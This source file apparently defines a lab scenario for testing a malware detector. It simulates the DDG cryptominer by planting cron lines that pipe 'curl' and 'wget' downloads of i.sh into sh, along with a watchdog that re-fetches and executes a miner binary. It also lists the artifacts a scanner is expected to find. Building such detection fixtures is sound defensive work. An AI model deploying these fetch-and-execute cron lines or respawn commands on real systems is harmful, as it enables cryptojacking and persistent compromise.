import { quote } from '../../core/quote.js';
import type { Scenario } from './types.js';
import { cronLine, dropper, installBinary, processArtifact, RH_CRONTAB, ROOT_CRONTAB, startProcess, stratum, WALLET } from './kit.js';
import { LEGIT_CRON } from './clean.js';

const WATCHDOG = '/tmp/ddg.2021';
const MINER = '/tmp/wnTKYg';

/** The `/bin/sh -c` a watchdog runs again whenever its miner exits: fetch it back if gone, exec it. */
export function respawnCommand(http: string, family: string, path: string, argv: string[]): string {
  const url = `${http}/bin/${family}`;
  return `[ -x ${quote(path)} ] || { curl -fsSL -o ${quote(path)} ${quote(url)} && chmod +x ${quote(path)}; }; exec ${argv.map(quote).join(' ')}`;
}

/** DDG: i.sh curl|sh and wget|sh in both spool files, ddg.* watchdog respawning wnTKYg. */
export const ddg: Scenario = {
  name: 'ddg',
  plan: (ctx) => {
    const minerArgv = [MINER, '-o', stratum(ctx.pool, 45700), '-u', WALLET];
    const child = respawnCommand(ctx.http, 'ddg', MINER, minerArgv);
    const wdArgv = [WATCHDOG];
    const lines = [`*/1 * * * * curl -fsSL ${ctx.http}/i.sh | sh`, `*/1 * * * * wget -q -O- ${ctx.http}/i.sh | sh`];
    return {
      family: 'ddg',
      plant: [
        ...LEGIT_CRON.map((l) => cronLine(l)),
        ...lines.map((l) => cronLine(l)),
        ...lines.map((l) => cronLine(l, RH_CRONTAB)),
      ],
      // As if i.sh had already run once (the pool may not be listening yet).
      start: [installBinary('ddg', WATCHDOG), installBinary('ddg', MINER), startProcess(wdArgv, { MS_LAB_CHILD: child })],
      artifacts: [
        processArtifact(wdArgv, 'ddg', ctx.sha256('ddg'), 'watchdog'),
        processArtifact(minerArgv, 'ddg', ctx.sha256('ddg'), 'miner', `${ctx.pool}:45700`),
        { kind: 'file', path: WATCHDOG, sha256: ctx.sha256('ddg') },
        { kind: 'file', path: MINER, sha256: ctx.sha256('ddg') },
        { kind: 'connection', remote: `${ctx.pool}:45700`, comm: 'wnTKYg' },
        ...lines.map((line) => ({ kind: 'cron-line' as const, path: ROOT_CRONTAB, line })),
        ...lines.map((line) => ({ kind: 'cron-line' as const, path: RH_CRONTAB, line })),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: LEGIT_CRON[1]!, legitimate: true },
      ],
      expectFindings: true,
      respawnSeconds: 5,
      binaries: ['ddg'],
      www: { 'i.sh': dropper({ http: ctx.http, family: 'ddg', path: WATCHDOG, argv: wdArgv, env: { MS_LAB_CHILD: child }, comm: 'ddg.2021' }) },
    };
  },
};
